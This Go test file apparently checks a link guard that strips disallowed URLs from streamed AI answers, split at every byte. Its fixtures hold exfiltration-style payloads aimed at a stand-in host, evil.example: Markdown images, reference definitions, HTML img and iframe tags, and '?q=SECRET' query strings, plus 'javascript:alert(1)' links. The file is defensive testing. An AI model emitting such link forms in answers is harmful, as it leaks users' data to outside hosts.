package answer

import (
	"strings"
	"testing"
)

// guardText runs text through a fresh guard in the given deltas.
func guardText(allowed AllowedLinks, deltas ...string) (string, error) {
	var got strings.Builder
	g := NewPipe(func(text string) error { got.WriteString(text); return nil }, NewLinkGuard(allowed))
	for _, d := range deltas {
		if err := g.Write(d); err != nil {
			return "", err
		}
	}
	if err := g.Flush(); err != nil {
		return "", err
	}
	return got.String(), nil
}

// checkEverySplit asserts that text guards to want whole, cut in two at
// every byte, and byte by byte: a model's deltas may cut a form anywhere.
func checkEverySplit(t *testing.T, allowed AllowedLinks, text, want string) {
	t.Helper()
	splits := [][]string{{text}, strings.Split(text, "")}
	for i := 1; i < len(text); i++ {
		splits = append(splits, []string{text[:i], text[i:]})
	}
	for _, deltas := range splits {
		got, err := guardText(allowed, deltas...)
		if err != nil {
			t.Fatal(err)
		}
		if got != want {
			t.Errorf("deltas %q: got %q, want %q", deltas, got, want)
			return
		}
	}
}

// A client that renders Markdown or HTML loads more than inline links and
// scheme URLs: a reference definition, a destination after a line ending,
// a raw HTML tag, a scheme-relative //host. Each is judged, whatever the
// deltas, and the links the answer was given still pass.
func TestLinkGuardJudgesEveryFormAClientLoads(t *testing.T) {
	allowed := AllowedLinks{}
	allowed.AddText("See [the guide](https://docs.acme.example/sync) and [r]: //cdn.acme.example/logo.png\n" +
		`<img src="https://docs.acme.example/diagram.png">` + " and //cdn.acme.example/chart.png and www.acme.example/docs.")
	cases := map[string]struct{ text, want string }{
		"reference definition":                       {"![chart][r]\n\n[r]: //evil.example/p.png?q=secret", "![chart][r]\n\n[r]: [link removed]"},
		"reference definition with title":            {"[r]: https://evil.example/x \"t\"\n", "[r]: [link removed] \"t\"\n"},
		"definition on the next line":                {"[r]:\n   https:evil.example/p\n", "[r]: [link removed]\n"},
		"definition in angle brackets":               {"[r]: <https:evil.example/p>\n", "[r]: [link removed]\n"},
		"definition at the answer's end":             {"[r]: https:evil.example/p", "[r]: [link removed]"},
		"definition of a URL in angle brackets":      {"![x][r]\n[r]: <https://evil.example/p.png?q=SECRET>\n", "![x][r]\n[r]: [link removed]\n"},
		"definition of a //host in angle brackets":   {"[r]: <//evil.example/p.png?q=SECRET>\n", "[r]: [link removed]\n"},
		"definition in angle brackets with a title":  {"[r]: <https://evil.example/p> \"t\"\n", "[r]: [link removed] \"t\"\n"},
		"definition in angle brackets on next line":  {"[r]:\n  <https://evil.example/p>\n", "[r]: [link removed]\n"},
		"indented definition in angle brackets":      {"   [r]: <https://evil.example/p>\n", "   [r]: [link removed]\n"},
		"definition in angle brackets, upper case":   {"[r]: <HTTPS://EVIL.EXAMPLE/P>\n", "[r]: [link removed]\n"},
		"definition in angle brackets after a blank": {"[r]: < javascript:alert(1)>\n", "[r]: [link removed]\n"},
		"autolink of any scheme":                     {"<javascript:alert(1)> and <HTTPS://evil.example/?q=1>", "[link removed] and [link removed]"},
		"autolink given passes":                      {"<https://docs.acme.example/sync>", "<https://docs.acme.example/sync>"},
		"a form in a relative definition target":     {"]:0<A0:0> and ]: a[b](https://evil.example/x)", "]:0 [link removed] and ]: a b"},
		"GFM www autolink":                           {"see www.evil.example/?q=SECRET.", "see [link removed]."},
		"GFM www autolink, upper case, in brackets":  {"(WWW.evil.example/x) *www.evil.example*", "( [link removed]) * [link removed]*"},
		"GFM www autolink given passes":              {"see www.acme.example/docs.", "see www.acme.example/docs."},
		"www inside a word or host is no autolink":   {"awww.x and docs.www.x and www. and www", "awww.x and docs.www.x and www. and www"},
		"definition in angle brackets with a space":  {"[r]: <https://evil.example/a b>\n", "[r]: [link removed] b>\n"},
		"definition given passes":                    {"![logo][r]\n[r]: //cdn.acme.example/logo.png\n", "![logo][r]\n[r]: //cdn.acme.example/logo.png\n"},
		"a sentence after a citation":                {"[S1]: Expense policy applies.", "[S1]: Expense policy applies."},
		"destination after a line ending":            {"![x](\n//evil.example/p.png) ok", "x ok"},
		"link after a line ending":                   {"[see](\n  https://evil.example/x \"t\") now", "see now"},
		"nested brackets":                            {"![a [b] c](https:evil.example/p)", "![a [b] c] [link removed]"},
		"label over two lines":                       {"![a\nb](https:evil.example/p)", "![a\nb] [link removed]"},
		"a replacement ending in a bracket":          {"!![https://a.example](https://b.example)(https:evil.example/p)", "! [link removed] [link removed]"},
		"balanced parentheses":                       {"[w](https://evil.example/a_(b)) x", "w  x"},
		"HTML image":                                 {`<img src="//evil.example/a.png">`, "[image removed]"},
		"HTML image unquoted":                        {"<IMG alt=x SRC=https://evil.example/a.png>", "[image removed]"},
		"HTML link":                                  {`<a href='//evil.example/?q=1'>here</a>`, "[link removed]here</a>"},
		"HTML style":                                 {`<span style="background:url(https:evil.example/p)">x</span>`, "[link removed]x</span>"},
		"HTML tag that loads":                        {"<iframe>x", "[link removed]x"},
		"HTML over lines":                            {"<img\n  src=\"//evil.example/p\"\n  alt=\"x\">", "[image removed]"},
		"HTML image given passes":                    {`<img src="https://docs.acme.example/diagram.png" alt="d">`, `<img src="https://docs.acme.example/diagram.png" alt="d">`},
		"HTML without attributes passes":             {"<b>bold</b><br/> and <details open>x", "<b>bold</b><br/> and <details open>x"},
		"scheme-relative URL":                        {"fetch //evil.example/x?q=1 now", "fetch [link removed] now"},
		"scheme-relative URL given passes":           {"see //cdn.acme.example/chart.png.", "see //cdn.acme.example/chart.png."},
		"a tag made with a label":                    {"<img[ src=https:evil.example/p](z)>", "&lt;img src=https:evil.example/p >"},
		"a tag made with an empty link":              {"<img[](z) src=https:evil.example/p>", "&lt;img [link removed] src=https:evil.example/p>"},
		"a tag after its \"<\"":                      {"<[img src=https:evil.example/p](z)>", "&lt; img src=https:evil.example/p >"},
		"a tag after a label's \"<\"":                {"[x<](z)img src=https:evil.example/p>", "x &lt;img src=https:evil.example/p>"},
		"a definition made by a removal":             {"[r]: https:evil.example/p [](z)\n![x][r]", "[r]: [link removed] [link removed]\n![x][r]"},
		"a URL made with a label":                    {"htt[ps://evil.example/?q=1](z)", "htt ps://evil.example/?q=1 "},
		"prose with angle brackets passes":           {"a <b and c> d, if a<b then", "a <b and c> d, if a<b then"},
		"slashes that are no URL":                    {"// a comment, a//b, and/or 3 // 4, x < y > z", "// a comment, a//b, and/or 3 // 4, x < y > z"},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) { checkEverySplit(t, allowed, tc.text, tc.want) })
	}
}
